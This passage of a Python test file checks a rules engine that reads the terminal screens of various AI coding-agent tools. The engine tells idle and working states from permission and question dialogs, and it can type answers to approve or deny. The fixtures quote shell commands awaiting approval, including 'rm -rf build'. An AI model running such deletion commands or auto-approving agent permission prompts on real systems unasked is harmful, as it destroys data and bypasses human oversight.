    s = _cursor_at(generic, spun + [""] * (40 - len(spun)), len(spun) - 1, 13)
    assert s.state == "working", s
    # a line prompt's legend that ends in its glyph, answered: the cursor under it
    typed = [*asked[:row - 1], "[y] once  [a] for the rest of session  [n] deny › y"]
    t = _cursor_at(generic, typed + [""] * (40 - len(typed)), len(typed), 0)
    assert t.state != "blocked", t


def test_buttons_with_their_key_hints_on_their_row_are_a_permission(
        generic: rules.Manifest) -> None:
    """wizolt 0.76.0: "│  Approve    Refuse     Enter runs it · Tab to move · Esc refuses"
    under the input's rule, in place of its prompt: a permission, its subject the call
    printed last above the rule ("Bash  <command>", a long one's "… +58 more lines":
    partial). Quoted in an answer over a sentence, or typed behind the prompt, it is none;
    its rule titled with a word in "-ing" and the turn's time is a turn running, and a
    banner's legend "Ctrl+C interrupts; press again within 5s to exit." is none."""
    screens = HELD_OUT / "wizolt-0.76.0" / "screens"
    asked = _screen(screens / "blocked-permission--Bash.txt")[:-1]
    v = _cursor_at(generic, asked, _last_row(asked, "    │ reason"), 13)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_button_hints")
    assert v.dialog is not None and not v.dialog.partial
    assert v.dialog.subject == ("Bash  sleep 3 && mkdir -p out && echo hi > out/x.txt",)
    long = _screen(screens / "blocked-permission--long-command.txt")[:-1]
    lv = _cursor_at(generic, long, _last_row(long, "    │ reason"), 13)
    assert lv.rule_id == "tui_dialog_button_hints" and lv.dialog is not None
    assert lv.dialog.partial and lv.dialog.subject[-1].strip() == "… +58 more lines"
    for name in ("done--quoted-dialog.txt", "idle--user-typed-dialog.txt"):
        lines = _screen(screens / name)[:-1]
        q = _cursor_at(generic, lines, _last_row(lines, ">"), 2)
        assert q.state != "blocked", (name, q)
    busy = _screen(screens / "working--thinking.txt")[:-1]
    b = _cursor_at(generic, busy, _last_row(busy, "+>"), 3)
    assert (b.state, b.rule_id) == ("working", "tui_working"), b
    assert read(generic, ["", "Ctrl+C interrupts; press again within 5s to exit.", "",
                          "╭─ x " + "─" * 30 + "╮", "│ ❯" + " " * 33 + "│",
                          "╰" + "─" * 35 + "╯"]).state != "working"


def test_a_box_under_the_composer_with_option_glyphs_and_a_question_box_are_dialogs(
        generic: rules.Manifest) -> None:
    """Symphony 0.0.3: its permission a box under the composer ("Allow Symphony to run the
    following command?", "│ <command>", "✓  Allow once", "⚡  Always allow", "×  Deny": a
    multiplication sign is a glyph, no letter), its selection a colour: a permission, no
    options read, its command not known (partial: the composer's box above the dialog's own
    box is none of it). Its question, a box of plain choices over its hints ("↑/↓ select  ·
    Enter choose") over the composer: a question. A word in "-ing" and the turn's time
    right over the composer ("Noodling 2.5s") is a turn running."""
    screens = HELD_OUT / "symphony-0.0.3" / "screens"
    asked = _screen(screens / "blocked-permission--bash.txt")[:-1]
    row = _last_row(asked, "   │  Ask Symphony")
    v = _cursor_at(generic, asked, row, 6)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_options")
    assert v.dialog is not None and v.dialog.partial and v.dialog.options == ()
    assert "Ask Symphony..." not in v.dialog.subject
    q = _cursor_at(generic, _screen(screens / "blocked-question--question.txt")[:-1], row, 6)
    assert (q.state, q.kind, q.rule_id) == ("blocked", "question", "tui_question_hints_box")
    assert q.msg == "Which color do you prefer?"
    busy = _cursor_at(generic, _screen(screens / "working--thinking.txt")[:-1], row, 6)
    assert (busy.state, busy.rule_id) == ("working", "tui_working_word"), busy
    done = _cursor_at(generic, _screen(screens / "done--answer.txt")[:-1], row, 6)
    assert done.state == "idle", done


def test_a_line_prompt_of_words_apart_by_slashes_under_a_call_is_a_permission(
        generic: rules.Manifest) -> None:
    """CodeRill 0.1.0: "  es / o / lways > " on the cursor's row (its toolkit's markup took
    the keys "[y]", "[n]", "[a]" for tags), under "allow bash? {"command": ...}": a
    permission, no keys read (`answer` types nothing), its subject the question's row and
    the rows the call's arguments wrap to; one cut with "..." is partial. A question asking
    no leave over such a prompt is a question; the chat's own prompt, or the same prompt
    answered (the cursor under it), is none."""
    screens = HELD_OUT / "coderill-0.1.0" / "screens"
    asked = _screen(screens / "blocked-permission--bash.txt")[:-1]
    row = _last_row(asked, "  es / o / lways >")
    v = _cursor_at(generic, asked, row)
    assert (v.state, v.kind, v.rule_id) == (
        "blocked", "permission", "line_slash_choices_permission")
    assert v.dialog is not None and v.dialog.options == () and not v.dialog.partial
    assert v.dialog.subject == (
        'allow bash? {"command": "sleep 3 && mkdir -p out && echo hi > out/x.txt"}',)
    long = _screen(screens / "blocked-permission--long-command.txt")[:-1]
    w = _cursor_at(generic, long, _last_row(long, "  es / o / lways >"))
    assert w.rule_id == "line_slash_choices_permission" and w.dialog is not None
    assert w.dialog.partial and w.dialog.subject[-1].endswith("t...")
    # the same prompt under a question asking no leave: a question, its row the message
    asked_q = [*asked[:row - 1], "Which colour should it use?", "  red / green / blue > "]
    q = _cursor_at(generic, asked_q + [""] * (40 - len(asked_q)), len(asked_q) - 1)
    assert (q.state, q.kind, q.rule_id) == (
        "blocked", "question", "line_slash_choices_question")
    # answered: the refusal printed under it, the chat's prompt back on the cursor's row
    done = _screen(screens / "done--after-deny.txt")[:-1]
    d = _cursor_at(generic, done, _last_row(done, "you >"))
    assert d.state != "blocked", d
    # a path at a prompt under a model's question is no choice (no blanks around its
    # slashes)
    typed = [*asked[:row - 1], "Shall I go on?", "src/app >"]
    t = _cursor_at(generic, typed + [""] * (40 - len(typed)), len(typed) - 1)
    assert t.state != "blocked", t


def test_yes_no_keys_after_a_commands_last_row_under_its_verb_are_a_permission(
        generic: rules.Manifest) -> None:
    """Tythan Code 1.0.0: "run: ls -la" over "touch x1.txt ? [y/N] " on the cursor's row (a
    multi-line command printed whole, the keys after its last row), and "run: rm -rf build
    ? [y/N] " on one row: permissions, y or n and Enter, the command's every row in the
    subject or the question. Its 61-line command, whose "run:" row scrolled off the top,
    stays a question and partial (`answer` refuses it); the same rows quoted in an answer
    (the chat's prompt on the cursor's row) are none."""
    screens = HELD_OUT / "tythan-1.0.0" / "screens"
    multi = _screen(screens / "blocked-permission--multiline-1.txt")[:-1]
    v = _cursor_at(generic, multi, _last_row(multi, "touch x1.txt ? [y/N]"))
    assert (v.state, v.kind, v.rule_id) == (
        "blocked", "permission", "yes_no_command_permission")
    assert v.dialog is not None and not v.dialog.partial
    assert [(o.label, o.key) for o in v.dialog.options] == [("yes", "y"), ("no", "n")]
    assert "run: ls -la" in v.dialog.subject and "touch x1.txt" in v.dialog.question
    one = _screen(screens / "blocked-permission--bash-rm.txt")[:-1]
    o = _cursor_at(generic, one, _last_row(one, "run: rm -rf build ? [y/N]"))
    assert (o.state, o.kind, o.rule_id) == ("blocked", "permission", "yes_no_permission")
    long = _screen(screens / "blocked-permission--long-command.txt")[:-1]
    w = _cursor_at(generic, long, _last_row(long, "touch SECOND-LAST ? [y/N]"))
    assert w.state == "blocked" and w.dialog is not None and w.dialog.partial
    quoted = _screen(screens / "done--quoted-dialog.txt")[:-1]
    n = _cursor_at(generic, quoted, _last_row(quoted, "you>"))
    assert n.state != "blocked", n
    # a blank row between the verb's row and the keys: another paragraph, a question
    row = _last_row(multi, "touch x1.txt ? [y/N]")
    apart = [*multi[:row], "", *multi[row:-1]]
    a = _cursor_at(generic, apart, row + 1)
    assert a.rule_id != "yes_no_command_permission", a


def test_a_footer_offering_approve_and_deny_keys_is_a_permission(
        generic: rules.Manifest) -> None:
    """Marim 0.18.27: its footer " a Approve  d Deny  ^t Cycle mode ..." under its box
    ("Approve  bash?", "$ <command>", edged buttons): a permission, each answer its key
    alone; its 61-line command's box scrolled to its head, the buttons out of view, the
    same. What it runs is read nowhere: partial, `answer` refuses it. The footer at rest,
    and the dialog quoted in an answer over it, are none."""
    screens = HELD_OUT / "marim-0.18.27" / "screens"
    for name in ("blocked-permission--bash.txt", "blocked-permission--long-command.txt"):
        asked = _screen(screens / name)[:-1]
        v = _cursor_at(generic, asked, -1, 0)
        assert (v.state, v.kind, v.rule_id) == (
            "blocked", "permission", "tui_dialog_footer_keys"), name
        assert v.dialog is not None and v.dialog.partial
        assert [(o.label, o.key) for o in v.dialog.options] == [("Approve", "a"), ("Deny", "d")]
        assert dialog.keys_for(v.dialog, v.dialog.options[1]) == ["d"]
        assert v.dialog.question == "Approve bash?"
    for name in ("idle--prompt.txt", "done--quoted-dialog.txt"):
        rest = _screen(screens / name)[:-1]
        assert _cursor_at(generic, rest, -1, 0).state != "blocked", name
    # a footer's keys quoted above the composer: not the last rows
    asked = _screen(screens / "blocked-permission--bash.txt")[:-1]
    footer = asked[-1]
    moved = [*asked[:-5], footer, *asked[-5:-1], " ^t Cycle mode  ^o Show all output"]
    assert _cursor_at(generic, moved, -1, 0).rule_id != "tui_dialog_footer_keys"


def test_a_question_over_a_framed_option_list_is_a_question(generic: rules.Manifest) -> None:
    """Marim 0.18.27: "Which color do you prefer?" over a frame of eighth blocks holding
    "▊ red" and "▊ blue" (a toolkit's option list, the focus a colour), "or type your own
    answer…" in a frame under it: a question, no options read. Such labels approving and
    declining ("▊ Yes", "▊ No") make a permission."""
    screens = HELD_OUT / "marim-0.18.27" / "screens"
    asked = _screen(screens / "blocked-question--question.txt")[:-1]
    v = _cursor_at(generic, asked, -1, 0)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "question", "tui_question_framed_list")
    assert v.dialog is not None and v.dialog.question == "Which color do you prefer?"
    assert v.dialog.options == ()
    yes_no = [x.replace("▊ red ", "▊ Yes ").replace("▊ blue ", "▊ No   ") for x in asked]
    y = _cursor_at(generic, yes_no, -1, 0)
    assert (y.state, y.kind, y.rule_id) == ("blocked", "permission", "tui_dialog_framed_list")


def test_a_prompt_echo_over_an_empty_composer_box_and_its_footer_is_no_list(
        generic: rules.Manifest) -> None:
    """Marim 0.18.27: the user's line echoed behind "›" and the answer's indented rows over
    its status row, its empty composer box and its footer "^t Cycle mode ... esc Cancel
    turn": no dialog's options and hints (the footer is the composer's, under its box)."""
    screens = HELD_OUT / "marim-0.18.27" / "screens"
    for name in ("working--streaming.txt", "working--streaming-long.txt", "done--answer.txt"):
        rows = _screen(screens / name)[:-1]
        v = _cursor_at(generic, rows, -3, 2)
        assert v.state != "blocked", (name, v)


def test_options_with_keys_under_a_question_none_approving_are_a_question(
        generic: rules.Manifest) -> None:
    """LansCoder 1.3.0: "Which color do you prefer?" over "│   [1] red  [2] blue", its status
    row, rule and placeholder under them: a question, its options keyed 1 and 2; its
    permission, "[1] deny  [2] allow once  [3] allow always", stays one. Answered ("│ 1"
    and the answer under the options), neither is a dialog."""
    screens = HELD_OUT / "lanscoder-1.3.0" / "screens"
    asked = _screen(screens / "blocked-question--question.txt")[:-1]
    v = _cursor_at(generic, asked, -1, 0)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "question", "tui_question_keys")
    assert v.dialog is not None and [(o.label, o.key) for o in v.dialog.options] == [
        ("red", "1"), ("blue", "2")]
    perm = _screen(screens / "blocked-permission--shell.txt")[:-1]
    p = _cursor_at(generic, perm, -1, 0)
    assert (p.state, p.kind, p.rule_id) == ("blocked", "permission", "tui_dialog_keys")
    done = _screen(screens / "done--after-question.txt")[:-1]
    assert _cursor_at(generic, done, -1, 0).state == "idle"


def test_keys_glued_to_approving_words_or_in_another_script_under_a_question_ask_leave(
        generic: rules.Manifest) -> None:
    """Keyed options under a question are a question's only when none approves or
    declines: keys glued to their words ("[y]es  [n]o  [a]ll") and approving words in
    another script ("[1] 允许  [2] 拒绝") are a permission's, its command the rows between
    the question and the keys, answered with the key shown; "[r]ed  [b]lue" stays a
    question."""
    call = ["  ⏺ Bash(rm -rf build)", ""]
    glued = read(generic, [*call, "  Run this command?", "  rm -rf build", "  [y]es  [n]o  [a]ll"])
    assert (glued.state, glued.kind, glued.rule_id) == ("blocked", "permission", "tui_dialog_keys")
    assert glued.dialog is not None
    assert [(o.key, o.label) for o in glued.dialog.options] == [
        ("y", "es"), ("n", "o"), ("a", "ll")]
    assert list(glued.dialog.subject) == ["rm -rf build"]
    assert dialog.keys_for(glued.dialog, glued.dialog.options[0]) == ["y"]
    zh = read(generic, [*call, "  要执行这个命令吗?", "  rm -rf build", "  [1] 允许  [2] 拒绝"])
    assert (zh.state, zh.kind, zh.rule_id) == ("blocked", "permission", "tui_dialog_keys")
    assert zh.dialog is not None
    assert [(o.key, o.label) for o in zh.dialog.options] == [("1", "允许"), ("2", "拒绝")]
    assert list(zh.dialog.subject) == ["rm -rf build"]
    colors = read(generic, [*call, "  Which color?", "  [r]ed  [b]lue"])
    assert (colors.state, colors.kind, colors.rule_id) == (
        "blocked", "question", "tui_question_keys")


def test_a_rule_over_a_placeholder_naming_shift_enter_is_the_composer(
        generic: rules.Manifest) -> None:
    """LansCoder 1.3.0: its rule and, as the screen's last words, the placeholder "输入消息，
    Enter 发送，Shift+Enter 换行，...": an input area at rest (idle); a turn's status row
    over the rule ("streaming [>>  ] · response") is read first: working."""
    screens = HELD_OUT / "lanscoder-1.3.0" / "screens"
    idle = _screen(screens / "done--answer.txt")[:-1]
    v = _cursor_at(generic, idle, -1, 0)
    assert (v.state, v.rule_id) == ("idle", "tui_composer_rule_hint")
    busy = _screen(screens / "working--streaming.txt")[:-1]
    assert _cursor_at(generic, busy, -1, 0).state == "working"
    # the placeholder's words with no rule over them: no composer of this shape
    loose = [x for x in idle if not x.strip().startswith("─")]
    assert _cursor_at(generic, loose, -1, 0).rule_id != "tui_composer_rule_hint"


def test_a_printed_pointer_list_answered_at_its_line_prompt_is_no_dialog(
        generic: rules.Manifest) -> None:
    """yncli 1.6.0: "Allow execution of run_terminal_command?" over "  > 1. Yes, allow
    execution", "    2. ...", "    3. No, deny execution" and the line prompt "Pilih
    (1/2/3 atau y/a/n): " on the cursor's row: a permission. Answered ("Pilih (1/2/3 atau
    y/a/n): 1", the cursor under it), with the approved command's spinner rows under it
    or without them, it is none."""
    screens = HELD_OUT / "yncli-1.6.0" / "screens"
    asked = _screen(screens / "blocked-permission--bash.txt")[:-1]
    row = _last_row(asked, "Pilih (1/2/3 atau y/a/n):")
    v = _cursor_at(generic, asked, row)
    assert (v.state, v.kind) == ("blocked", "permission"), v
    answered = [*asked[:row], "Pilih (1/2/3 atau y/a/n): 1", ""]
    answered += [""] * (len(asked) - len(answered))
    a = _cursor_at(generic, answered, row + 2, 0)
    assert a.state != "blocked", a
    spun = [*asked[:row], "Pilih (1/2/3 atau y/a/n): 1", "",
            "⠧ ✔ Menjalankan perintah terminal (sleep 3 && mkdir -p out && echo hi > out...)",
            "● [ - ] Menjalankan: run_terminal_command..."]
    spun += [""] * (len(asked) - len(spun))
    s = _cursor_at(generic, spun, row + 4, 44)
    assert s.state != "blocked", s


def test_a_rule_of_hyphens_titled_with_a_word_in_ing_and_a_time_is_work(
        generic: rules.Manifest) -> None:
    """minacode 0.36.0: "--- ● working (2s) -----" over "+> Enter queues follow-up ·
    Ctrl-C interrupts" while its turn runs: working; "── done in 1s ──" over its prompt is
    none of it."""
    screens = HELD_OUT / "minacode-0.36.0" / "screens"
    busy = _screen(screens / "working--thinking.txt")[:-1]
    v = _cursor_at(generic, busy, _last_row(busy, "+>"))
    assert (v.state, v.rule_id) == ("working", "tui_working"), v
    done = _screen(screens / "done--answer.txt")[:-1]
    d = _cursor_at(generic, done, _last_row(done, ">"), 2)
    assert d.state != "working", d


def test_keyed_options_behind_a_pointer_right_over_the_composer_box_are_a_permission(
        generic: rules.Manifest) -> None:
    """CDD Agent 0.0.6: "     > [1] Allow    [2] Deny    [3] Session" under "⚠" and "Tool:
    run_bash (command=rm -rf build)", the composer box's top edge right under it: a
    permission, partial (what it runs read nowhere: its call row cuts a command at 30
    characters). The same rows quoted in an answer's panel (its bottom edge between
    them and the composer) are none."""
    screens = HELD_OUT / "cdd-0.0.6" / "screens"
    asked = _screen(screens / "blocked-permission--bash-rm.txt")[:-1]
    v = _cursor_at(generic, asked, -3, 3)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_keys_over_composer")
    assert v.dialog is not None and v.dialog.partial
    quoted = _screen(screens / "done--quoted-dialog.txt")[:-1]
    assert _cursor_at(generic, quoted, -3, 3).state != "blocked"


def test_a_line_prompt_left_over_an_input_row_under_a_rule_is_a_dialog(
        generic: rules.Manifest) -> None:
    """AbstractCode 0.3.8: "Approve execute_command? [y]es/[n]o/[a]ll/[e]dit/[q]uit:" as the
    transcript's last row over its rule, its input row ">" and two status rows: a
    permission, partial (the command read nowhere whole); its second step "Type 'run' to
    execute this command:" the same; its question "Which color do you prefer?" over "  [1]
    red" ... and "Choice (number or text):" a question. Answered ("  → y" under the
    prompt) or quoted in an answer, none."""
    screens = HELD_OUT / "abstractcode-0.3.8" / "screens"
    asked = _screen(screens / "blocked-permission--bash-rm.txt")[:-1]
    row = _last_row(asked, ">")
    v = _cursor_at(generic, asked, row, 2)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_prompt_over_input")
    assert v.dialog is not None and v.dialog.partial
    ask = _last_row(asked, "Approve execute_command?")
    second = [*asked[:ask], "  → y", "Type 'run' to execute this command:", *asked[ask + 1:]]
    s = _cursor_at(generic, second, row + 2, 2)
    assert (s.state, s.kind, s.rule_id) == ("blocked", "permission", "tui_prompt_over_input")
    done = [*asked[:ask + 1], "  → y", *asked[ask + 1:]]
    assert _cursor_at(generic, done, row + 1, 2).state != "blocked"
    q = _screen(screens / "blocked-question--question.txt")[:-1]
    w = _cursor_at(generic, q, _last_row(q, ">"), 2)
    assert (w.state, w.kind, w.rule_id) == ("blocked", "question", "tui_question_over_input")
    assert w.dialog is not None and w.dialog.question == "Which color do you prefer?"
    quoted = _screen(screens / "done--quoted-dialog.txt")[:-1]
    assert _cursor_at(generic, quoted, _last_row(quoted, ">"), 2).state != "blocked"


def test_options_led_by_a_letter_key_and_a_parenthesis_are_the_catch_alls(
        generic: rules.Manifest) -> None:
    """No pointer, no hints: "Run it?" over "  y) Yes" and "  n) No" as the last rows
    (each option led by its letter key and a parenthesis, as `opt_deco` reads it): the
    catch-all's permission; the same rows led by no key are too, and with a sentence
    under them (quoted in an answer) neither is."""
    keyed = read(generic, ["  ⏺ Bash(rm -rf build)", "", "  Run it?", "  y) Yes", "  n) No"])
    assert (keyed.state, keyed.kind, keyed.rule_id) == (
        "blocked", "permission", "tui_dialog_options"), keyed
    plain = read(generic, ["  ⏺ Bash(rm -rf build)", "", "  Run it?", "  Yes", "  No"])
    assert plain.rule_id == "tui_dialog_options", plain
    quoted = read(generic, ["  Run it?", "  y) Yes", "  n) No", "", "  That is what it asked."])
    assert quoted.state != "blocked", quoted


def test_a_bar_with_its_keys_under_the_transcripts_rule_is_a_permission(
        generic: rules.Manifest) -> None:
    """MForege 0.1.17: " ⚠ <command>   (type y/n + Enter)" under the rule that closes its
    transcript and its activity row, over its status row and its input box (the cursor
    in the box): a permission, y or n and Enter, its subject the rows from the rule down
    to the bar. The transcript's quote of it (above the rule), the same words typed in
    the box, and a bar showing a two-row command's first row without its keys are none."""
    screens = HELD_OUT / "mforege-0.1.17" / "screens"
    for name, command in (("blocked-permission--bash.txt",
                           "sleep 3 && mkdir -p out && echo hi > out/x.txt"),
                          ("blocked-permission--bash-rm.txt", "rm -f build.log")):
        rows = _screen(screens / name)[:-1]
        v = _cursor_at(generic, rows, -2, 1)
        assert (v.state, v.kind, v.rule_id) == (
            "blocked", "permission", "tui_bar_keys_permission"), name
        assert v.dialog is not None and not v.dialog.partial
        assert [(o.label, o.key) for o in v.dialog.options] == [("yes", "y"), ("no", "n")]
        assert dialog.keys_for(v.dialog, v.dialog.options[0]) == ["y", "\r"]
        assert v.dialog.subject[-1] == f"⚠ {command}   (type y/n + Enter)"
        assert v.dialog.subject[0].startswith("✻ run_command(command=")
        assert v.msg == command
    for name in ("done--quoted-dialog.txt", "idle--user-typed-dialog.txt",
                 "blocked-permission--multiline-1.txt", "working--tool-running.txt"):
        rows = _screen(screens / name)[:-1]
        assert _cursor_at(generic, rows, -2, 1).state != "blocked", name
    # a bar of two rows, its keys on the second (not led by a glyph): not read, so no
    # answer approves a command whose first row is not in what it shows
    asked = _screen(screens / "blocked-permission--bash-rm.txt")[:-1]
    at = next(i for i, x in enumerate(asked) if x.startswith(" ⚠ "))
    two = [*asked[:at], " ⚠ mkdir -p d", "   touch x1.txt   (type y/n + Enter)", *asked[at + 1:]]
    assert _cursor_at(generic, two, -2, 1).state != "blocked"


def test_a_time_right_after_a_done_mark_is_no_turn_counting(generic: rules.Manifest) -> None:
    """MForege 0.1.17 after a refusal: "  · run_command(command=rm -f build.log) run_command
    ✓ (0.9s)" (how long the finished call took) over the answer, its rule, its status row
    at rest and its empty input box: the composer at rest, not work; the same row with a
    running turn's time ("✻ Thinking… (12s)") is work."""
    screens = HELD_OUT / "mforege-0.1.17" / "screens"
    rows = _screen(screens / "done--after-deny.txt")[:-1]
    v = _cursor_at(generic, rows, -2, 1)
    assert v.state == "idle", v
    at = next(i for i, x in enumerate(rows) if "✓ (0.9s)" in x)
    running = [*rows[:at], "  ✻ Thinking… (12s)", *rows[at + 1:]]
    assert _cursor_at(generic, running, -2, 1).state == "working"


def test_a_framed_list_under_a_heading_ending_in_a_colon_and_its_hints(
        generic: rules.Manifest) -> None:
    """Aru 0.61.0: "Choose an option:", its hints ("Scroll up to review · ↑↓ to navigate ·
    Enter to confirm · Esc to cancel") and a frame of eighth blocks holding "▊ Yes" and
    "▊ No, and tell Aru what to do differently", inside a box under the command's panel: a
    permission, partial (no key shows, the panel may cut the command at its width); a
    heading ending in a colon with a row of words, no hints, between it and the frame is
    none."""
    screens = HELD_OUT / "aru-0.61.0" / "screens"
    for name in ("blocked-permission--bash.txt", "blocked-permission--multiline-1.txt"):
        rows = _screen(screens / name)[:-1]
        v = _cursor_at(generic, rows, 1, 4)
        assert (v.state, v.kind, v.rule_id) == (
            "blocked", "permission", "tui_dialog_framed_list"), name
        assert v.msg == "Choose an option:"
        assert v.dialog is not None and v.dialog.partial
    rows = _screen(screens / "blocked-permission--bash.txt")[:-1]
    at = next(i for i, x in enumerate(rows) if "Scroll up to review" in x)
    prose = [*rows[:at], rows[at].replace(
        "Scroll up to review · ↑↓ to navigate · Enter to confirm · Esc to cancel",
        "These are the colours the team liked best this year, in order  "), *rows[at + 1:]]
    assert _cursor_at(generic, prose, 1, 4).rule_id != "tui_dialog_framed_list"


def test_a_line_prompt_whose_keys_a_toolkit_ate_under_a_panel(generic: rules.Manifest) -> None:
    """Axion Code 1.0.1: "Allow? :" on the cursor's row (Rich took "[y/N/a(lways)]" for
    markup) under its panel "⚠ Permission Required" holding "Input: {"command": ...}": a
    permission, y or n and Enter, its subject the panel's rows; a command the panel cuts
    with "..." ("touch f15.tx...") is partial, so no answer approves the rows not shown."""
    screens = HELD_OUT / "axion-1.0.1" / "screens"
    rows = _screen(screens / "blocked-permission--bash-rm.txt")[:-1]
    at = _last_row(rows, "Allow? :")
    v = _cursor_at(generic, rows, at)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "yes_no_permission")
    assert v.dialog is not None and not v.dialog.partial
    assert [(o.label, o.key) for o in v.dialog.options] == [("yes", "y"), ("no", "n")]
    assert v.dialog.subject[-1] == 'Input:    {"command": "rm -rf build"}'
    rows = _screen(screens / "blocked-permission--long-command.txt")[:-1]
    v = _cursor_at(generic, rows, _last_row(rows, "Allow? :"))
    assert (v.state, v.rule_id) == ("blocked", "yes_no_permission")
    assert v.dialog is not None and v.dialog.partial
    assert v.dialog.subject[-1].endswith("f15.tx...")


def test_a_named_prompt_with_its_placeholder_after_the_cursor_over_a_legend(
        generic: rules.Manifest) -> None:
    """Axion Code 1.0.1 at rest: "axion > " with the placeholder "Try: search for TODO
    comments" right of the cursor, over its toolbar " axion │ /help for commands │ Ctrl+C
    to interrupt" (a legend of keys drawn at rest, apart by "│"): idle, not a turn; the
    same prompt with the user's words left of the cursor (entered, a turn going on) is no
    prompt."""
    screens = HELD_OUT / "axion-1.0.1" / "screens"
    rows = _screen(screens / "idle--prompt.txt")[:-1]
    at = _last_row(rows, "axion > ")
    v = _cursor_at(generic, rows, at, len("axion > "))
    assert (v.state, v.rule_id) == ("idle", "line_chat_prompt_placeholder")
    typed = _cursor_at(generic, rows, at)
    assert typed.rule_id != "line_chat_prompt_placeholder"


def test_a_numbered_list_over_a_blank_row_and_your_choice(generic: rules.Manifest) -> None:
    """Alan Code 1.3.14: "? Which color do you prefer?" over "  1) red" ... "  Or type your
    own answer", a blank row, then "Your choice: " on the cursor's row: a question, each
    number typed with Enter; its permission ("? Allow Bash?", the call's input, "  1)
    Allow" ...) the same way is one; answered ("Your choice: 1" entered, the cursor under
    it while the command runs and draws nothing) neither is a dialog."""
    screens = HELD_OUT / "alancode-1.3.14" / "screens"
    rows = _screen(screens / "blocked-question--question.txt")[:-1]
    at = _last_row(rows, "Your choice:")
    v = _cursor_at(generic, rows, at)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "question", "line_numbered_question")
    assert v.dialog is not None
    # (the hint row under the last option, at its number's column, is read as that
    # label's wrapped rest: "blue Or type your own answer")
    assert [(o.label.split()[0], o.key) for o in v.dialog.options] == [
        ("red", "1"), ("green", "2"), ("blue", "3")]
    assert dialog.keys_for(v.dialog, v.dialog.options[1]) == ["2", "\r"]
    rows = _screen(screens / "blocked-permission--bash.txt")[:-1]
    at = _last_row(rows, "Your choice:")
    v = _cursor_at(generic, rows, at)
    assert (v.state, v.kind) == ("blocked", "permission")
    answered = [*rows[:at], "Your choice: 1", *rows[at + 1:]]
    assert _cursor_at(generic, answered, at + 1, 0).state != "blocked"
    # a bare "Answer:" under a numbered list (a model's prose) is still none
    prose = [*rows[:at], "Answer:", *rows[at + 1:]]
    assert _cursor_at(generic, prose, at).rule_id != "line_numbered_question"


def test_a_banners_legend_and_a_two_row_prompts_small_pointer_are_at_rest(
        generic: rules.Manifest) -> None:
    """What is drawn at rest: Alan Code 1.3.12's banner "│ Type /help for commands, Ctrl+C
    to interrupt │" over its prompt "> " (a legend apart by a comma), ZettCode 0.2.0's
    status row "  ● ready ... ^C/Esc to interrupt  ^D exit" under "› Ask ZettCode to do
    anything" (the key to leave two blanks after the hint), and Aizen 2.7.0's two-row prompt
    "╭─ aizen ─ work" over "╰─ ▸ " and its toolbar: each idle, not a turn."""
    rows = _screen(HELD_OUT / "alancode-1.3.12" / "screens" / "idle--prompt.txt")[:-1]
    at = _last_row(rows, ">")
    assert _cursor_at(generic, rows, at, 2).state == "idle"
    rows = _screen(HELD_OUT / "zettcode-0.2.0" / "screens" / "idle--prompt.txt")[:-1]
    at = _last_row(rows, "› Ask ZettCode")
    assert _cursor_at(generic, rows, at, 2).state == "idle"
    rows = _screen(HELD_OUT / "aizen-2.7.0" / "screens" / "idle--prompt.txt")[:-1]
    at = _last_row(rows, "╰─ ▸")
    v = _cursor_at(generic, rows, at, 5)
    assert (v.state, v.rule_id) == ("idle", "line_chat_prompt")
    # the same hint while a turn runs is work: ZettCode's "✦ Processing (3s · ^C/Esc to
    # interrupt)" over its composer
    rows = _screen(HELD_OUT / "zettcode-0.2.0" / "screens" / "working--thinking.txt")[:-1]
    at = _last_row(rows, "› Ask ZettCode")
    assert _cursor_at(generic, rows, at, 2).state == "working"


def test_a_checked_pointer_on_a_numbered_option_under_a_question(
        generic: rules.Manifest) -> None:
    """ZettCode 0.2.0: "Which color do you prefer?" over " ▸ ✓  1. Red" and "      2. Blue"
    (the selected option marked by a pointer and a check) and its hints "› up/down choose,
    enter sends · or type an answer · esc cancels": a question, its options read, the
    first selected."""
    rows = _screen(HELD_OUT / "zettcode-0.2.0" / "screens" / "blocked-question--question.txt")[:-1]
    at = _last_row(rows, "› up/down")
    v = _cursor_at(generic, rows, at, 2)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "question", "tui_question_list")
    assert v.dialog is not None
    assert [(o.label, o.selected) for o in v.dialog.options] == [("Red", True), ("Blue", False)]
    assert dialog.keys_for(v.dialog, v.dialog.options[0]) == ["\r"]


# -------------------------- a yes/no question over its command, a spinner left under it

def over_spinner(*command: str, ask: str = "Allow shell command? [y/N/always/deny <pattern>]",
                 spinner: str = "⠹ thinking…") -> list[str]:
    """choreoai-cli 0.0.5's permission (tests/heldout/choreo-0.0.5): its question, the
    command under it, its input prompt ">" on a row of its own, and under that the spinner
    it left running, the cursor at the spinner's end."""
    rows = _screen(HELD_OUT / "choreo-0.0.5" / "screens" / "blocked-permission--bash.txt")
    top = _last_row(rows, "Allow shell command?")
    return [*rows[:top], ask, *command, ">", spinner]


def test_a_yes_no_question_left_over_a_running_spinner_waits_for_its_answer(
        generic: rules.Manifest) -> None:
    """choreoai-cli asks "Allow shell command? [y/N/always/deny <pattern>]" over "  $
    <command>" and reads the answer at ">" with Python's input() while the spinner it
    started for the turn ("⠹ thinking…") runs on under that row: a permission, its subject
    the command's rows, answered y or n and Enter. Answered, the key is echoed after the
    spinner's words and the spinner goes on a row lower: none; a question that asks no
    leave to act is a question."""
    rows = _screen(HELD_OUT / "choreo-0.0.5" / "screens" / "blocked-permission--bash.txt")
    at = _last_row(rows, ">") + 1  # the spinner's row ("⠦ thinking…")
    v = _cursor_at(generic, rows, at)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission",
                                           "yes_no_over_spinner_permission")
    d = v.dialog
    assert d is not None and not d.partial
    assert d.subject == ("$ sleep 3 && mkdir -p out && echo hi > out/x.txt",)
    assert d.question.startswith("Allow shell command? [y/N/always/deny <pattern>]")
    assert [(o.label, o.key) for o in d.options] == [("yes", "y"), ("no", "n")]
    assert dialog.keys_for(d, dialog.resolve(d, "no")) == ["n", "\r"]
    # the spinner's next frame: the same dialog
